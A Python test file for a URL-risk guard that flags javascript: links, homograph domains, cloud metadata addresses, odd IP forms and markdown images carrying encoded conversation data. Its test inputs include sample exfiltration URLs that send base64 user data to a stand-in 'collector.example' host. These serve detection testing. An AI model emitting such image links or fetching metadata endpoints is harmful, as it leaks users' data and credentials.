"""Addresses are looked at for what they do: whom they name, what they run, what they carry away."""

from __future__ import annotations

import gzip
import json
import time
from pathlib import Path

import anyio
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from harmless.core import Exchange, Outcome, Verdict
from harmless.errors import BadFileError, UsageError
from harmless.guards import load
from harmless.guards.urls import MOST, risks

LONG = "dGhlIHVzZXIncyBuYW1lIGlzIEFkYQ"


def judge(text: str, spec: str = "urls") -> Verdict:
    return anyio.run(load(spec).judge, [Exchange.of("Hi", text)])[0]


def found(text: str, spec: str = "urls") -> set[str]:
    return {finding.rule.removeprefix("url.") for finding in judge(text, spec).findings}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[click](javascript:alert(1))", "script"),
        ("see data:text/html;base64,PHNjcmlwdD4=", "data_document"),
        ("data:text/html,<script>", "data_document"),
        ("data:image/png;base64,iVBORw0KGgo=", "data_other"),
        ("https://bank.example@collector.example/login", "user_part"),
        ("https://xn--pple-43d.com/id", "homograph"),
        ("https://pаypal.com/", "homograph"),
        ("https://аррӏе.com", "homograph"),
        ("https://münchen.de/", "international"),
        ("https://xn--mnchen-3ya.de/", "international"),
        ("https://xn--\u00e9.com", "malformed"),
        ("http://169.254.169.254/latest/meta-data", "metadata_host"),
        ("http://[fd00:ec2::254]/latest", "metadata_host"),
        ("http://8.8.8.8/x", "public_ip"),
        ("http://192.168.1.1/admin", "private_ip"),
        ("http://[::1]:8080/", "private_ip"),
        ("http://2130706433/", "odd_ip"),
        ("http://0x7f.1/", "odd_ip"),
        ("http://0177.0.0.1/", "odd_ip"),
        ("https://bit.ly/3abc", "shortener"),
        ("http://[::1/", "malformed"),
        (f"![logo](https://collector.example/a.png?d={LONG})", "image_with_data"),
        ("![logo](https://collector.example/a.png?secret=42)", "image_with_data"),
        ("![logo](https://collector.example/a.png?d={conversation})", "image_with_data"),
        (f"![logo](https://collector.example/{LONG}.png)", "image_with_data"),
        (f"![logo](https://{LONG}.collector.example/a.png)", "image_with_data"),
        (f'<img width="1" src="https://collector.example/?{LONG}">', "image_with_data"),
        (f"<iframe src='https://collector.example/?q={LONG}'></iframe>", "image_with_data"),
        (f"![logo][1]\n\n[1]: https://collector.example/a.png?d={LONG}", "image_with_data"),
        (f"![1]\n\n[1]: https://collector.example/a.png?d={LONG}", "image_with_data"),
        ("![logo](https://example.org/logo.png)", "image"),
        (f"[more](https://collector.example/?d={LONG}{LONG})", "link_with_data"),
    ],
)
def test_what_is_wrong_with_an_address_is_named(text: str, expected: str) -> None:
    assert expected in found(text)
    verdict = judge(text)
    assert verdict.score == max(risks()[name] for name in found(text))
    assert (verdict.outcome is Outcome.UNSAFE) is (verdict.score >= 0.5)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "https://example.org/articles/how-to-bake?page=2",
        "http://example.org:8080/a_(b)",
        "Write to me@example.org.",
        "the data: it is here; JavaScript: a language",
        "version 1.2.3.4 of http",
        f"![logo][1]\n\n[2]: https://example.org/a.png?d={'a' * 10}",
        "https://пример.рф/страница".replace("пример.рф", "example.org"),
        "\x00\ud800 http:// https:///",
    ],
)
def test_ordinary_addresses_and_garbage_have_nothing_wrong(text: str) -> None:
    assert judge(text).outcome is Outcome.SAFE
    assert found(text) <= {"malformed"} - {"malformed"}


def test_names_wholly_in_another_script_are_no_imitation() -> None:
    assert found("https://пример.рф/") == {"international"}
    assert found("https://例え.jp/") == {"international"}


def test_the_place_of_an_address_ends_before_the_full_stop() -> None:
    text = "Go to http://8.8.8.8/x."
    assert [finding.span for finding in judge(text).findings] == [(6, 22)]
    assert text[6:22] == "http://8.8.8.8/x"


def test_hosts_are_allowed_with_their_subdomains() -> None:
    spec = "urls(allow=example.org|python.org)"
    assert found("https://docs.python.org/3 https://example.org", spec) == set()
    assert found("https://notpython.org/3", spec) == {"not_allowed"}
    assert found("https://python.org.evil.example/", spec) == {"not_allowed"}


def test_denied_hosts_are_read_from_a_file(tmp_path: Path) -> None:
    hosts = tmp_path / "hosts.txt"
    hosts.write_text("# ours\nEvil.example\n\n")
    verdict = judge("http://login.EVIL.example./x", f"urls(deny={hosts})")
    assert (verdict.outcome, verdict.score) == (Outcome.UNSAFE, 1.0)
    assert found("http://good.example", f"urls(deny={hosts})") == set()
    hosts.write_bytes(b"\xff")
    with pytest.raises(BadFileError, match="cannot be read"):
        load(f"urls(deny={hosts})")


@pytest.mark.parametrize("spec", ["urls(example.org)", "urls(block=example.org)", "urls(allow=)"])
def test_what_is_no_option_is_a_usage_error(spec: str) -> None:
    with pytest.raises(UsageError, match="does not take"):
        load(spec)


def test_lists_are_part_of_the_revision() -> None:
    specs = ("urls", "urls(allow=a.org)", "urls(deny=a.org)")
    assert len({load(spec).info.identity for spec in specs}) == 3


@settings(deadline=None)  # the machine may be busy
@given(
    st.lists(
        st.sampled_from(
            ["http://", "![", "](", "[1]:", "data:", "@", "xn--", ".", "a", "ü", "1", " ", "\n", "?", "[", "]"]
        )
    )
)
def test_whatever_is_written_is_judged(pieces: list[str]) -> None:
    assert judge("".join(pieces)).outcome is not Outcome.UNASSESSED


@pytest.mark.parametrize(
    "text", ["![" * 5000, "[a]:" * 5000, "<img " * 5000, "http://a.b/ " * 5000, "http://" + "a" * 50_000]
)
def test_hostile_texts_take_linear_time(text: str) -> None:
    started = time.process_time()
    assert len(judge(text).findings) <= MOST
    assert time.process_time() - started < 2


def test_ordinary_prompts_and_replies_are_not_flagged(shared_data: Path) -> None:
    lines = (shared_data / "benign_prompts.jsonl").read_text(encoding="utf-8").splitlines()
    prompts = [Exchange.of(json.loads(line)["text"]) for line in lines]
    with gzip.open(shared_data / "labelled_replies.jsonl.gz", "rt", encoding="utf-8") as rows:
        replies = [Exchange.of("", json.loads(row)["reply"]) for row in rows]
    for exchanges in (prompts, replies):
        verdicts = anyio.run(load("urls").judge, exchanges)
        assert sum(v.outcome is Outcome.UNSAFE for v in verdicts) <= 0.002 * len(verdicts)
